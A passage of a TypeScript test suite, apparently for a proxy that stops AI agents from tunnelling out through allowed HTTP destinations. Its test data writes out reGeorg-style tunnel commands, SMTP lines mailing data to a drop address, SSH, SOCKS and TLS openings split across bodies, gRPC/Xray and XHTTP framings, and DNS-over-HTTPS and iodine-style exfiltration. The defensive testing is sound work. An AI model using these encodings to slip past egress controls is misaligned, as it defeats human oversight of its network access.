  t.teardown(() => smtpd.kill());
  let smtpOut = '';
  const smtpPort = await new Promise<number>((r) => smtpd.stdout.on('data', (d: Buffer) => { smtpOut += d.toString(); const m = /^(\d+)\n/.exec(smtpOut); if (m) r(Number(m[1])); }));
  const answerTunnel = async (name: string, down: 'read' | 'read-base64' | 'sse' | 'stream' | 'json' | 'gzip' | 'sse-lines', lowercase = false) => {
    const { token } = await a.airlock.agents.add(name);
    const auth = `Basic ${Buffer.from(`${name}:${token}`).toString('base64')}`;
    const send = (method: string, target: string, headers: Record<string, string>, body?: Buffer) => new Promise<{ status: number; body: Buffer; cut: boolean }>((resolve) => {
      const req = http.request({ host: '127.0.0.1', port: a.port, method, path: `http://allowed.example:${tp}${target}`, agent: false,
        headers: { 'proxy-authorization': auth, host: `allowed.example:${tp}`, 'x-session': name, ...headers, ...(body ? { 'content-length': String(body.length) } : {}) } });
      req.setTimeout(5000, () => req.destroy());
      req.on('error', () => resolve({ status: 0, body: Buffer.alloc(0), cut: true }));
      req.on('response', (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks), cut: false }));
        res.on('error', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks), cut: true }));
        res.on('aborted', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks), cut: true }));
      });
      req.end(body);
    });
    const read = () => down === 'read' || down === 'read-base64' ? send('POST', '/tunnel.jsp', { 'x-cmd': 'READ', ...(down === 'read-base64' ? { 'x-enc': 'base64' } : {}) })
      : send('GET', `/down/${down}`, {});
    const opened = await send('POST', '/tunnel.jsp', { 'x-cmd': 'CONNECT', 'x-target': 'allowed.example', 'x-port': '25' });
    // (A long poll: asked again while the service has said nothing yet, a bounded number of times.)
    let banner = await read();
    const said = (r: typeof banner): string => (down === 'gzip' && r.body.length ? zlib.gunzipSync(r.body, { finishFlush: zlib.constants.Z_SYNC_FLUSH }) : r.body).toString('latin1');
    for (let i = 0; i < 40 && banner.status === 200 && !banner.cut && /^(?:: ping\n\n)?$/.test(said(banner)); i++) {
      await new Promise((r) => setTimeout(r, 25));
      banner = await read();
    }
    const sent: number[] = [];
    for (const line of ['EHLO agent.example', 'MAIL FROM:<agent@agent.example>', 'RCPT TO:<drop@admin.example>', 'DATA', `Subject: ${name}\r\n\r\nthe data\r\n.`]) {
      sent.push((await send('POST', '/tunnel.jsp', { 'x-cmd': 'FORWARD' }, Buffer.from(`${lowercase ? line.replace(/^[A-Z]+/, (w) => w.toLowerCase()) : line}\r\n`))).status);
    }
    await new Promise((r) => setTimeout(r, 100));
    return { opened: opened.status, banner, sent };
  };
  for (const [name, down, lower] of [['a1', 'read', false], ['a2', 'read-base64', true], ['a3', 'sse', true], ['a4', 'stream', true], ['a5', 'json', true], ['a6', 'gzip', true], ['a7', 'sse-lines', true]] as const) {
    dialPort = smtpPort;
    const r = await answerTunnel(name, down, lower);
    t.equal(r.opened, 200, `${down}: the CONNECT to the allowed host goes on`);
    let seen = r.banner.body;
    if (down === 'gzip') seen = zlib.gunzipSync(seen, { finishFlush: zlib.constants.Z_SYNC_FLUSH });
    t.ok(!seen.toString('latin1').includes('220 ') && !seen.toString('latin1').includes('MjIwI'), `${down}: the SMTP banner never reaches the agent (${r.banner.status}, ${seen.subarray(0, 60).toString('latin1')})`);
    t.ok(r.sent.every((s) => s === 403), `${down}: every line after it is refused (${r.sent.join(',')})`);
    t.notOk(smtpOut.includes(`MAIL agent@agent.example`), `${down}: the SMTP server never took a message`);
  }
});

t.test('twenty-fifth pass: an opening cut across request bodies to one destination is refused where it completes', (t) => {
  // In process: the pipeline's reading (proxy/body-tunnels.ts BodyStreams) over every cut of each
  // opening into 2–4 bodies (bytes too), after innocuous bodies, with other destinations' and
  // agents' bodies interleaved; every body before the last one goes on.
  const host = Buffer.from('admin.example');
  const port = Buffer.from([0, 22]);
  const openings = [Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n'), Buffer.from('SSH- 2.0-x\n'), Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, host.length]), host, port]),
    Buffer.concat([Buffer.from([4, 1, 0, 22, 10, 0, 0, 5]), Buffer.from('u\0')]), Buffer.concat([Buffer.from([0]), crypto.randomBytes(16), Buffer.from([0, 1]), port, Buffer.from([2, host.length]), host]),
    Buffer.concat([Buffer.from('a'.repeat(56) + '\r\n'), Buffer.from([1, 3, host.length]), host, port, Buffer.from('\r\n')]), Buffer.from('16030100c4010000c00303' + '00'.repeat(32) + '00', 'hex'),
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 40000 22\r\n')];
  const innocuous = fc.oneof(fc.uint8Array({ minLength: 1, maxLength: 300 }).map((u) => Buffer.from(u)), fc.jsonValue().map((v) => Buffer.from(JSON.stringify(v) ?? 'null')), fc.constantFrom(Buffer.from('hello'), Buffer.from('{"a":1}')));
  const alone = (b: Buffer): boolean => { const r = bodyTunnel(['Content-Type', 'application/octet-stream'], 'http://allowed.example/up', { captured: b, truncated: false }); return !!r && 'refusal' in r; };
  // Each piece framed as a tunnel server takes it: raw, base64 (the whole body, a form value, a JSON
  // string), percent-encoded bytes in a form, a JSON string with escapes, gzip'd.
  const framings: Record<string, (b: Buffer) => [Buffer, string[]]> = {
    raw: (b) => [b, ['Content-Type', 'application/octet-stream']], base64: (b) => [Buffer.from(b.toString('base64')), ['Content-Type', 'text/plain']],
    base64url: (b) => [Buffer.from(b.toString('base64url')), []], formBytes: (b) => [Buffer.from(`sid=7&data=${[...b].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('')}`), ['Content-Type', 'application/x-www-form-urlencoded']],
    formBase64: (b) => [Buffer.from(`data=${encodeURIComponent(b.toString('base64'))}`), ['Content-Type', 'application/x-www-form-urlencoded']],
    jsonBase64: (b) => [Buffer.from(JSON.stringify({ sid: 'a1', data: b.toString('base64') })), ['Content-Type', 'application/json']],
    jsonString: (b) => [Buffer.from(JSON.stringify({ data: b.toString('latin1') })), ['Content-Type', 'application/json']], gzip: (b) => [zlib.gzipSync(b), ['Content-Encoding', 'gzip']],
  };
  const aloneAs = (b: Buffer, h: string[]): boolean => { const r = bodyTunnel(h, 'http://allowed.example/up', { captured: b, truncated: false }); return !!r && 'refusal' in r; };
  fc.assert(fc.property(fc.constantFrom(...openings), fc.array(fc.nat(), { minLength: 1, maxLength: 3 }), fc.boolean(), fc.array(innocuous, { maxLength: 3 }), fc.boolean(), fc.constantFrom(...Object.keys(framings)), (opening, cuts, bytewise, before, interleave, framing) => {
    // (A value's own text is not read for a banner: a ticket quoting `SSH-2.0-…` is none.)
    if (opening.subarray(0, 4).toString() === 'SSH-' && (framing === 'jsonString' || framing === 'formBytes')) return;
    const points = [...new Set(cuts.map((c) => 1 + (c % (opening.length - 1))))].sort((a, b) => a - b);
    const pieces = bytewise ? [...opening].map((c) => Buffer.from([c])) : [0, ...points].map((p, i, all) => opening.subarray(p, all[i + 1] ?? opening.length));
    const streams = new BodyStreams();
    for (const b of before) if (!alone(b)) streams.read('agent', 'http://allowed.example', { captured: b, truncated: false });
    for (const [i, bytes] of pieces.entries()) {
      if (interleave) streams.read('agent', 'http://other.example', { captured: Buffer.from('{"x":2}'), truncated: false });
      if (interleave) streams.read('neighbour', 'http://allowed.example', { captured: Buffer.from([0x16, 0x03]), truncated: false });
      const [piece, headers] = framings[framing]!(bytes);
      const refused = aloneAs(piece, headers) || streams.read('agent', 'http://allowed.example', { captured: piece, truncated: false }, headers) !== undefined;
      if (refused) return;
      if (i === pieces.length - 1) throw new Error(`never refused: ${framing} ${opening.subarray(0, 12).toString('hex')} cut at ${bytewise ? 'every byte' : points.join(',')}`);
    }
  }), { numRuns: numRuns * 2, ...seed });
  // Controls: series of random binary, JSON, text and form bodies to one destination are never refused.
  const form = fc.dictionary(fc.stringMatching(/^[a-z]{1,6}$/), fc.string({ maxLength: 20 }), { minKeys: 1, maxKeys: 4 }).map((d) => Buffer.from(new URLSearchParams(d).toString()));
  fc.assert(fc.property(fc.array(fc.oneof(innocuous, form, fc.constantFrom(Buffer.from('ok'), Buffer.from('yes'), Buffer.from('Fg'), Buffer.from('AAAA'))), { minLength: 2, maxLength: 40 }), (bodies) => {
    const streams = new BodyStreams();
    for (const b of bodies) {
      if (alone(b)) continue;
      const r = streams.read('agent', 'http://allowed.example', { captured: b, truncated: false });
      if (r) throw new Error(`${r}: ${bodies.map((x) => x.subarray(0, 12).toString('hex')).join(' ')}`);
    }
  }), { numRuns: numRuns * 2, ...seed });
  t.end();
});

/** A DNS query as RFC 8484 clients send it (id 0, recursion desired), of `type` for each name (labels as Latin-1 bytes). */
function dnsQuery(names: string[], type = 16): Buffer<ArrayBufferLike> {
  const head = Buffer.from([0, 0, 1, 0, 0, names.length, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([head, ...names.map((n) => Buffer.concat([...n.split('.').map((l) => Buffer.concat([Buffer.from([Buffer.byteLength(l, 'latin1')]), Buffer.from(l, 'latin1')])), Buffer.from([0, 0, type, 0, 1])]))]);
}
/** gRPC's framing of one message (flag 0, its length). */
const grpcFrame = (m: Buffer): Buffer => { const h = Buffer.alloc(5); h.writeUInt32BE(m.length, 1); return Buffer.concat([h, m]); };
/** Xray's gRPC transport (`gun`): the stream's bytes as `Hunk {bytes data = 1}`. */
const hunk = (b: Buffer): Buffer => { const len: number[] = []; let n = b.length; do { len.push((n & 0x7f) | (n > 0x7f ? 0x80 : 0)); n >>= 7; } while (n); return Buffer.concat([Buffer.from([0x0a, ...len]), b]); };

t.test('twenty-sixth pass: openings in gRPC-web text segments and gRPC transport Hunks, pieces a sequence number orders, another agent\'s flood, and DNS-over-HTTPS names', async (t) => {
  const host = Buffer.from('admin.example');
  const port = Buffer.from([0, 22]);
  const hello = await clientHello({ servername: 'admin.example' });
  const openings = [Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n'), Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, host.length]), host, port]),
    Buffer.concat([Buffer.from([0]), crypto.randomBytes(16), Buffer.from([0, 1]), port, Buffer.from([2, host.length]), host]), hello,
    Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 40000 22\r\n')];
  const refusedAlone = (b: Buffer, h: string[], url = 'http://allowed.example/up'): boolean => { const r = bodyTunnel(h, url, { captured: b, truncated: false }); return !!r && 'refusal' in r; };
  // gRPC-web text joins each message's own base64 (padding mid-text: Node's decoder stopped at the
  // first `=`); Xray's gRPC transport wraps the stream in `Hunk.data` (two bytes before the opening).
  const textOf = (msgs: Buffer[]): Buffer => Buffer.from(msgs.map((m) => grpcFrame(m).toString('base64')).join(''));
  fc.assert(fc.property(fc.constantFrom(...openings), fc.integer({ min: 1, max: 40 }), fc.constantFrom('text', 'text-hunk', 'binary-hunk'), (opening, lead, how) => {
    const first = Buffer.alloc(lead % 3 === 0 ? lead + 1 : lead, 7);
    const body = how === 'text' ? textOf([first, opening]) : how === 'text-hunk' ? textOf([hunk(opening)]) : Buffer.concat([grpcFrame(hunk(opening))]);
    const ct = how === 'binary-hunk' ? 'application/grpc-web+proto' : 'application/grpc-web-text';
    if (!refusedAlone(body, ['Content-Type', ct])) throw new Error(`${how} ${lead} ${opening.subarray(0, 8).toString('hex')}: not refused`);
  }), { numRuns, ...seed });
  // The same cut across a bidi stream's requests (each POST one message): refused where it completes.
  fc.assert(fc.property(fc.constantFrom(...openings), fc.integer({ min: 1, max: 1000 }), fc.constantFrom('text', 'text-hunk', 'binary-hunk'), (opening, c, how) => {
    const at = 1 + (c % (opening.length - 1));
    const streams = new BodyStreams();
    const ct = how === 'binary-hunk' ? 'application/grpc-web+proto' : 'application/grpc-web-text';
    for (const [i, piece] of [opening.subarray(0, at), opening.subarray(at)].entries()) {
      const body = how === 'text' ? textOf([piece]) : how === 'text-hunk' ? textOf([hunk(piece)]) : grpcFrame(hunk(piece));
      if (refusedAlone(body, ['Content-Type', ct]) || streams.read('agent', 'http://allowed.example', { captured: body, truncated: false }, ['Content-Type', ct], 'http://allowed.example/grpc.Tun/Tun')) return;
      if (i === 1) throw new Error(`${how} cut at ${at}: never refused`);
    }
  }), { numRuns, ...seed });
  // Controls: gRPC-web text of several protobuf messages (each its own padded base64), and Hunks of random bytes, go on.
  const protobuf = fc.array(fc.tuple(fc.integer({ min: 1, max: 30 }), fc.uint8Array({ maxLength: 40 })), { minLength: 1, maxLength: 6 })
    .map((fields) => Buffer.concat(fields.map(([n, v]) => Buffer.concat([Buffer.from([(n << 3) | 2, v.length]), v]))));
  fc.assert(fc.property(fc.array(protobuf, { minLength: 1, maxLength: 4 }), (msgs) => {
    if (refusedAlone(textOf(msgs), ['Content-Type', 'application/grpc-web-text'])) throw new Error(msgs.map((m) => m.toString('hex')).join(' '));
    const streams = new BodyStreams();
    for (const m of msgs) if (streams.read('agent', 'http://allowed.example', { captured: textOf([m]), truncated: false }, ['Content-Type', 'application/grpc-web-text'])) throw new Error(m.toString('hex'));
  }), { numRuns, ...seed });

  // XHTTP packet-up: pieces posted to /<path>/<session>/<seq> in any order, the server writing them by seq.
  // (Its `seqPlacement`: the path by default, or a query parameter, a header or a cookie; padding in the query changes each time.)
  const placements = ['path', 'query', 'header', 'cookie'] as const;
  fc.assert(fc.property(fc.constantFrom(...openings), fc.array(fc.nat(), { minLength: 1, maxLength: 3 }), fc.array(fc.nat(), { minLength: 4, maxLength: 4 }), fc.constantFrom('raw', 'base64'), fc.constantFrom(...placements), (opening, cuts, order, framing, placement) => {
    const points = [...new Set(cuts.map((c) => 1 + (c % (opening.length - 1))))].sort((a, b) => a - b);
    const pieces = [0, ...points].map((p, i, all) => opening.subarray(p, all[i + 1] ?? opening.length));
    // A permutation of the pieces' numbers (the first never first: arrival order would read it).
    const seqs = pieces.map((_, i) => i).sort((a, b) => (order[a % 4]! - order[b % 4]!) || b - a);
    if (seqs[0] === 0) seqs.push(seqs.shift()!);
    const streams = new BodyStreams();
    for (const [k, seq] of seqs.entries()) {
      const body = framing === 'raw' ? pieces[seq]! : Buffer.from(pieces[seq]!.toString('base64'));
      const pad = `x_padding=${'X'.repeat(100 + k)}`;
      const url = placement === 'path' ? `http://allowed.example/xhttp/6f1c2a/${seq}?${pad}` : placement === 'query' ? `http://allowed.example/xhttp/6f1c2a?${pad}&seq=${seq}` : `http://allowed.example/xhttp/6f1c2a?${pad}`;
      const h = placement === 'header' ? ['X-Seq', String(seq)] : placement === 'cookie' ? ['Cookie', `x_seq=${seq}; sid=6f1c2a`] : [];
      if (refusedAlone(body, h, url) || streams.read('agent', 'http://allowed.example', { captured: body, truncated: false }, h, url)) return;
      if (k === seqs.length - 1) throw new Error(`${framing} ${placement} seqs ${seqs.join(',')} of ${opening.subarray(0, 8).toString('hex')} cut at ${points.join(',')}: never refused`);
    }
  }), { numRuns: numRuns * 2, ...seed });
  // Control: numbered uploads of ordinary bodies (chunks of a JSON document, of a file) go on in any order.
  fc.assert(fc.property(fc.array(fc.oneof(fc.jsonValue().map((v) => Buffer.from(JSON.stringify(v) ?? 'null')), fc.uint8Array({ minLength: 1, maxLength: 200 }).map((u) => Buffer.from(u))), { minLength: 2, maxLength: 12 }), (bodies) => {
    const streams = new BodyStreams();
    for (const [i, b] of bodies.entries()) {
      const url = `http://allowed.example/upload/77/${(i * 7) % bodies.length}`;
      if (refusedAlone(b, [], url)) continue;
      const r = streams.read('agent', 'http://allowed.example', { captured: b, truncated: false }, [], url);
      if (r) throw new Error(`${r}: ${bodies.map((x) => x.subarray(0, 8).toString('hex')).join(' ')}`);
    }
  }), { numRuns, ...seed });

  // A piece beside a longer value (a session id, a token): read by its name, raw, in base64 and as a form's bytes.
  fc.assert(fc.property(fc.constantFrom(...openings.slice(1)), fc.integer({ min: 1, max: 1000 }), fc.constantFrom('json', 'jsonBase64', 'form', 'formBase64', 'socketio'), (opening, c, framing) => {
    const at = 1 + (c % (opening.length - 1));
    const sid = crypto.randomBytes(48).toString('hex');
    const streams = new BodyStreams();
    for (const [i, piece] of [opening.subarray(0, at), opening.subarray(at)].entries()) {
      const body = framing === 'socketio' ? Buffer.from(`42${JSON.stringify(['data', sid, piece.toString('latin1')])}`) : framing === 'json' ? Buffer.from(JSON.stringify({ sid, data: piece.toString('latin1') })) : framing === 'jsonBase64' ? Buffer.from(JSON.stringify({ sid, data: piece.toString('base64') }))
        : framing === 'form' ? Buffer.from(`sid=${sid}&data=${[...piece].map((x) => `%${x.toString(16).padStart(2, '0')}`).join('')}`) : Buffer.from(`sid=${sid}&data=${encodeURIComponent(piece.toString('base64'))}`);
      const h = ['Content-Type', framing.startsWith('json') ? 'application/json' : 'application/x-www-form-urlencoded'];
      if (refusedAlone(body, h) || streams.read('agent', 'http://allowed.example', { captured: body, truncated: false }, h)) return;
      if (i === 1) throw new Error(`${framing} cut at ${at}: never refused`);
    }
  }), { numRuns, ...seed });

  // A neighbour posting to 1,100 other origins between two pieces no longer pushes the agent's stream out.
  const ssh = openings[0]!;
  const streams = new BodyStreams();
  t.equal(streams.read('agent', 'http://allowed.example', { captured: ssh.subarray(0, 5), truncated: false }), undefined, 'the first piece goes on');
  for (let i = 0; i < 1100; i++) streams.read('neighbour', `http://h${i}.example`, { captured: Buffer.from('{"n":1}'), truncated: false });
  t.match(streams.read('agent', 'http://allowed.example', { captured: ssh.subarray(5), truncated: false }), /SSH/, 'the piece completing it after the neighbour\'s flood is refused');

  // A real OpenSSH client's first bytes (its identification line, then KEXINIT), each piece a JSON
  // string or a form's bytes: the line alone is excused there (a ticket may quote one), its key exchange is not.
  const sshd = net.createServer((c) => { c.on('error', () => undefined); c.write('SSH-2.0-OpenSSH_9.6\r\n'); });
  await new Promise<void>((r) => sshd.listen(0, '127.0.0.1', r));
  const client = await new Promise<Buffer>((resolve) => {
    const got: Buffer[] = [];
    sshd.removeAllListeners('connection');
    sshd.on('connection', (c) => {
      c.on('error', () => undefined);
      c.write('SSH-2.0-OpenSSH_9.6\r\n');
      c.on('data', (d: Buffer) => { got.push(d); if (Buffer.concat(got).length > 600) { c.destroy(); resolve(Buffer.concat(got)); } });
      c.on('close', () => resolve(Buffer.concat(got)));
    });
    const p = spawn('ssh', ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'BatchMode=yes', '-p', String((sshd.address() as net.AddressInfo).port), 'x@127.0.0.1'], { stdio: 'ignore' });
    p.on('error', () => resolve(Buffer.concat(got)));
    setTimeout(() => { p.kill(); resolve(Buffer.concat(got)); }, 5000).unref();
  });
  sshd.close();
  t.ok(client.subarray(0, 8).toString() === 'SSH-2.0-' && client.length > 200, 'the ssh client sent its line and key exchange');
  const lineEnd = client.indexOf(0x0a) + 1;
  fc.assert(fc.property(fc.integer({ min: 0, max: 300 }), fc.constantFrom('jsonString', 'formBytes', 'socketio'), (extra, framing) => {
    const at = lineEnd + (extra % 40);
    const streams = new BodyStreams();
    for (const [i, piece] of [client.subarray(0, at), client.subarray(at, at + 400)].entries()) {
      const body = framing === 'jsonString' ? Buffer.from(JSON.stringify({ data: piece.toString('latin1') }))
        : framing === 'socketio' ? Buffer.from(`42${JSON.stringify(['data', piece.toString('latin1')])}`)
          : Buffer.from(`sid=7&data=${[...piece].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('')}`);
      const h = ['Content-Type', framing === 'formBytes' ? 'application/x-www-form-urlencoded' : 'application/json'];
      if (refusedAlone(body, h) || streams.read('agent', 'http://allowed.example', { captured: body, truncated: false }, h)) return;
      if (i === 1) throw new Error(`${framing} cut at ${at}: never refused`);
    }
  }), { numRuns, ...seed });
  t.equal(new InnerSessionScan().read(client.subarray(lineEnd, lineEnd + 300)), 'an SSH key exchange (KEXINIT)', 'a WebSocket tunnel\'s KEXINIT alone is read too');
  const ticket = new BodyStreams();
  for (const b of ['{"note":"SSH-2.0-OpenSSH_9.6 on the jump host\\r\\n"}', '{"note":"ssh-keygen -t ed25519"}', '{"kex":"curve25519-sha256,ecdh-sha2-nistp256"}']) {
    t.notOk(refusedAlone(Buffer.from(b), ['Content-Type', 'application/json']) || ticket.read('agent', 'http://allowed.example', { captured: Buffer.from(b), truncated: false }, ['Content-Type', 'application/json']), `a ticket's text goes on: ${b}`);
  }

  // DNS over HTTPS: each name a query asks about is decided as a request to that host.
  const doh = (url: string, body: Buffer<ArrayBufferLike> = Buffer.alloc(0), headers: string[] = []) => bodyTunnel(headers, url, { captured: body, truncated: false });
  const hostsOf = (r: ReturnType<typeof doh>): string[] => (Array.isArray(r) ? r.map((x) => new URL(x.request.url).hostname) : []);
  const data = fc.uint8Array({ minLength: 1, maxLength: 60 }).map((u) => Buffer.from(u).toString('base64url').toLowerCase().replace(/[-_]/g, 'a'));
  fc.assert(fc.property(data, fc.constantFrom('get', 'post', 'json', 'json-accept'), fc.constantFrom(1, 16, 28, 65), (label, how, type) => {
    const name = `${label.slice(0, 63)}.t.admin.example`;
    const q = dnsQuery([name], type);
    const r = how === 'get' ? doh(`http://allowed.example/dns-query?dns=${q.toString('base64url')}`)
      : how === 'post' ? doh('http://allowed.example/dns-query', q, ['Content-Type', 'application/dns-message'])
        : how === 'json' ? doh(`http://allowed.example/resolve?name=${name}&type=TXT`) : doh(`http://allowed.example/q?name=${name}`, Buffer.alloc(0), ['Accept', 'application/dns-json']);
    if (!hostsOf(r).includes(name)) throw new Error(`${how} ${name}: ${JSON.stringify(r)}`);
  }), { numRuns, ...seed });
  // iodine's raw and 8-bit encodings: a label no host is spelled as is refused outright.
  for (const label of ['a\x80\xff\x01b', 'x/y', 'a b', 'x*']) {
    const r = doh('http://allowed.example/dns-query', dnsQuery([`${label}.t.admin.example`]), ['Content-Type', 'application/dns-message']);
    t.ok(r && 'refusal' in r, `a label ${JSON.stringify(label)} is refused`);
  }
  const unreadable = doh('http://allowed.example/dns-query', Buffer.from('0000010000010000', 'hex'), ['Content-Type', 'application/dns-message']);
  t.ok(unreadable && 'refusal' in unreadable, 'a DNS message that cannot be read is refused');
  t.same(hostsOf(doh(`http://allowed.example/dns-query?dns=${dnsQuery(['_acme-challenge.allowed.example']).toString('base64url')}`)), ['_acme-challenge.allowed.example'], 'an ordinary lookup names its host (the policy decides)');
  t.equal(doh('http://allowed.example/search?dns=cloudflare&q=resolvers'), undefined, 'a `dns=` parameter that is no DNS message names nothing');
  // Twenty-seventh pass: DoH's JSON API POSTed, and a body that is a DNS query whole under any type (a bridge to a resolver).
  fc.assert(fc.property(data, fc.constantFrom('json-post', 'json-list', 'octet', 'tcp'), (label, how) => {
    const name = `${label.slice(0, 63)}.t.admin.example`;
    const q = dnsQuery([name]);
    const r = how === 'json-post' ? doh('http://allowed.example/dns-query', Buffer.from(JSON.stringify({ name, type: 'TXT' })), ['Content-Type', 'application/json'])
      : how === 'json-list' ? doh('http://allowed.example/q', Buffer.from(JSON.stringify([{ name, type: 16 }])), ['Content-Type', 'application/dns-json'])
        : how === 'octet' ? doh('http://allowed.example/up', q, ['Content-Type', 'application/octet-stream'])
          : doh('http://allowed.example/up', Buffer.concat([Buffer.from([q.length >> 8, q.length & 0xff]), q]));
    if (!hostsOf(r).includes(name)) throw new Error(`${how} ${name}: ${JSON.stringify(r)}`);
  }), { numRuns, ...seed });
  t.equal(doh('http://allowed.example/api/identity/resolve', Buffer.from('{"name":"alice"}'), ['Content-Type', 'application/json']), undefined, 'an application\'s own /resolve taking JSON names no host');
  fc.assert(fc.property(fc.uint8Array({ minLength: 17, maxLength: 300 }), (u) => {
    if (dnsQueryNames(Buffer.from(u))) throw new Error(Buffer.from(u).toString('hex'));
  }), { numRuns: numRuns * 8, ...seed });

});

t.test('twenty-seventh pass: a server\'s opening in a body tunnel\'s answers cuts them, and the client side of server-first protocols and databases in bodies is refused', (t) => {
  // What servers that speak first send (Python's smtpd and Postfix, vsftpd, Dovecot's POP3 and
  // IMAP, a VNC server, MariaDB 10.11, PostgreSQL 15's SCRAM request, a Telnet server, OpenSSH).
  const mariadb = (() => {
    const p = Buffer.concat([Buffer.from([0x0a]), Buffer.from('5.5.5-10.11.6-MariaDB-0+deb12u1\0'), Buffer.from('0d000000', 'hex'), crypto.randomBytes(8), Buffer.from([0]),
      Buffer.from('fef72d0200ff8115000000000000070000', 'hex'), crypto.randomBytes(12), Buffer.from([0]), Buffer.from('mysql_native_password\0')]);
    return Buffer.concat([Buffer.from([p.length & 0xff, p.length >> 8, 0, 0]), p]);
  })();
  const greetings: Array<[string, Buffer]> = [
    ['smtp', Buffer.from('220 localhost Python SMTP proxy version 0.3\r\n')], ['postfix', Buffer.from('220 mx.example.com ESMTP Postfix (Debian/GNU)\r\n')],
    ['ftp', Buffer.from('220 (vsFTPd 3.0.3)\r\n')], ['ftp-multi', Buffer.from('220-Welcome\r\n220 ready\r\n')], ['pop3', Buffer.from('+OK Dovecot (Debian) ready.\r\n')],
    ['imap', Buffer.from('* OK [CAPABILITY IMAP4rev1 SASL-IR LOGIN-REFERRALS ID ENABLE IDLE LITERAL+ STARTTLS AUTH=PLAIN] Dovecot (Debian) ready.\r\n')],
    ['vnc', Buffer.from('RFB 003.008\n')], ['mysql', mariadb], ['pg', Buffer.concat([Buffer.from('R\0\0\0\x17\0\0\0\x0aSCRAM-SHA-256\0\0', 'latin1')])],
    ['telnet', Buffer.from('fffd18fffd20fffd23fffd27', 'hex')], ['ssh', Buffer.from('SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n')],
  ];
  const b64 = (b: Buffer) => b.toString('base64');
  // How a tunnel server hands them back: raw, base64, SSE events of base64, JSON, gzip; each answer in chunks.
  const framings: Record<string, (b: Buffer) => [Buffer, Array<[string, string]>]> = {
    raw: (b) => [b, [['content-type', 'application/octet-stream']]],
    base64: (b) => [Buffer.from(b64(b)), [['content-type', 'text/plain']]],
    sse: (b) => [Buffer.from(`: hi\n\n${[...Array(Math.ceil(b.length / 5)).keys()].map((i) => `event: d\ndata: ${b64(b.subarray(i * 5, i * 5 + 5))}\n\n`).join('')}`), [['content-type', 'text/event-stream']]],
    json: (b) => [Buffer.from(JSON.stringify({ id: 'c2f1a9', data: b64(b) })), [['content-type', 'application/json']]],
    // A relay that sends each line of text as an event, its line end taken off.
    sseLines: (b) => [Buffer.from(b.toString('latin1').split(/\r?\n/).filter(Boolean).map((l) => `data: ${l}\n\n`).join(''), 'latin1'), [['content-type', 'text/event-stream']]],
    gzip: (b) => [zlib.gzipSync(b), [['content-type', 'application/octet-stream'], ['content-encoding', 'gzip']]],
  };
  const request = { method: 'POST', url: 'http://allowed.example/tunnel', bodyLength: 0 };
  /** Each answer through its watch, chunk by chunk: whether one was cut. */
  const cut = (answers: AnswerTunnels, agent: string, parts: Array<[Buffer, Array<[string, string]>]>, chunkCuts: number[]): boolean => {
    for (const [body, headers] of parts) {
      const watch = answers.watch(agent, 'http://allowed.example', request, headers);
      const points = [...new Set(chunkCuts.map((c) => c % body.length))].filter((p) => p > 0).sort((a, b) => a - b);
      for (const [i, p] of [0, ...points].entries()) if (watch?.chunk(body.subarray(p, [...points, body.length][i]))) return true;
      watch?.end();
    }
    return answers.refused(agent, 'http://allowed.example') !== undefined;
  };
  fc.assert(fc.property(fc.constantFrom(...greetings), fc.constantFrom(...Object.keys(framings)), fc.integer({ min: 1, max: 3 }), fc.array(fc.nat(), { maxLength: 4 }), ([, greeting], framing, answers, chunkCuts) => {
    // (A value's text may quote a greeting line, as a scanner's API does: in JSON only a binary one is read.)
    const text = greeting.every((c) => (c >= 0x20 && c < 0x7f) || c === 0x0d || c === 0x0a);
    if (framing === 'json' && text) return;
    // (Lines as events: a text greeting whole in one answer, cut at its line ends only.)
    if (framing === 'sseLines' && (!text || answers > 1)) return;
    // The greeting across 1–3 answers (reGeorg's READs), each in chunks.
    const size = Math.ceil(greeting.length / answers);
    const parts = [...Array(answers).keys()].map((i) => framings[framing]!(greeting.subarray(i * size, i * size + size))).filter(([b]) => b.length);
    const tunnels = new AnswerTunnels();
    if (!cut(tunnels, 'agent', parts, chunkCuts)) throw new Error(`not cut: ${framing} ${greeting.subarray(0, 16).toString('hex')} in ${answers}`);
    if (!tunnels.refused('agent', 'http://allowed.example') || tunnels.refused('neighbour', 'http://allowed.example')) throw new Error('the destination is marked for the agent alone');
  }), { numRuns: numRuns * 2, ...seed });
  // Controls: answers of the same shapes that must go on (random bytes, JSON, HTML, an SSE chat, a
  // scanner's banners in JSON strings, media and archives, text that begins with the same words).
  const innocent = fc.oneof(
    fc.uint8Array({ minLength: 1, maxLength: 600 }).map((u) => [Buffer.from(u), [['content-type', 'application/octet-stream']]] as [Buffer, Array<[string, string]>]),
    fc.json().map((j) => [Buffer.from(j), [['content-type', 'application/json']]] as [Buffer, Array<[string, string]>]),
    fc.string({ maxLength: 80 }).map((s) => [Buffer.from(`data: ${JSON.stringify({ choices: [{ delta: { content: `220 ${s}\r\n` } }] })}\n\n`), [['content-type', 'text/event-stream']]] as [Buffer, Array<[string, string]>]),
  );
  fc.assert(fc.property(fc.array(innocent, { minLength: 1, maxLength: 6 }), fc.array(fc.nat(), { maxLength: 3 }), (parts, chunkCuts) => {
    if (cut(new AnswerTunnels(), 'agent', parts, chunkCuts)) throw new Error(parts.map(([b]) => b.subarray(0, 16).toString('hex')).join(' '));
  }), { numRuns: numRuns * 4, ...seed });
  const shodan = Buffer.from(JSON.stringify({ matches: [{ port: 25, data: '220 mx.google.com ESMTP a1si\r\n' }, { port: 22, data: 'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3\r\n' }, { port: 110, data: '+OK POP3 ready\r\n' }, { port: 5900, data: 'RFB 003.008\n' }] }));
